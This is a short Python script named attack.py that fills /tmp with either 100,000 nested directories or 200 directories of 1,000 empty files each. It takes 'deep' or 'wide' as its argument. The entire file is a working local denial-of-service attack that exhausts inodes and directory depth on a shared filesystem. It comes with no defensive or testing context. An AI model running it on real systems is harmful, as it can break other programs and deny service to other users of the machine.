"""Fill /tmp: 100000 directories deep, or 200 directories with 1000 files each.

    attack.py deep|wide

"""

import os
import sys

os.chdir("/tmp")
if sys.argv[1] == "deep":
    for _ in range(100000):
        os.mkdir("d")
        os.chdir("d")
else:
    for i in range(200):
        os.mkdir(str(i))
        for j in range(1000):
            os.mknod(f"{i}/{j}")
